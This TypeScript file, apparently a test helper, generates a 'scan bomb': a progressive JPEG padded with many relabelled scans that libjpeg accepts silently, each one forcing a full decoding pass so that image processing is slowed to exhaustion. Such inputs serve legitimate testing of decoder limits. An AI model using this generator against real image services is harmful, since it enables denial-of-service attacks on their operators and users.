import sharp from "sharp";

/** A JPEG marker segment (or a scan: its header and its entropy-coded data). */
interface Segment {
  marker: number;
  bytes: Buffer;
}

function isEntropyByte(b: Buffer, at: number): boolean {
  const next = b[at + 1] as number;
  return !(b[at] === 0xff && next !== 0x00 && !(next >= 0xd0 && next <= 0xd7));
}

function segmentsOf(jpeg: Buffer): Segment[] {
  const segments: Segment[] = [];
  for (let at = 2; at < jpeg.length; ) {
    const marker = jpeg[at + 1] as number;
    if (marker === 0xd9) {
      segments.push({ marker, bytes: jpeg.subarray(at, at + 2) });
      break;
    }
    let end = at + 2 + jpeg.readUInt16BE(at + 2);
    if (marker === 0xda) while (end < jpeg.length && isEntropyByte(jpeg, end)) end++;
    segments.push({ marker, bytes: jpeg.subarray(at, end) });
    at = end;
  }
  return segments;
}

/**
 * A progressive JPEG of a flat `side`×`side` picture with `extraScans`
 * empty scans before its end: a few bytes each, yet each one is a decoder
 * pass over every block of the image. The copies repeat the last scan (the
 * luma's final AC refinement) re-labelled as a first AC scan at full
 * precision (Ah=0, Al=0): that is what the coefficients' state expects after
 * the last refinement, so libjpeg takes every copy without a warning (a
 * plain duplicate is refused as an inconsistent progression). On a flat
 * picture its data is only end-of-band runs, so it decodes the same way.
 */
export async function scanBomb(side: number, extraScans: number): Promise<Buffer> {
  const base = await sharp({ create: { width: side, height: side, channels: 3, background: "#808080" } })
    .jpeg({ progressive: true, mozjpeg: false })
    .toBuffer();
  const segments = segmentsOf(base);
  const scans = segments.filter((s) => s.marker === 0xda);
  const last = Buffer.from((scans[scans.length - 1] as Segment).bytes);
  const successive = 5 + 2 * (last[4] as number) + 2;
  last[successive] = 0x00;
  const parts: Buffer[] = [base.subarray(0, 2)];
  for (const segment of segments) {
    if (segment.marker === 0xd9) for (let i = 0; i < extraScans; i++) parts.push(last);
    parts.push(segment.bytes);
  }
  return Buffer.concat(parts);
}
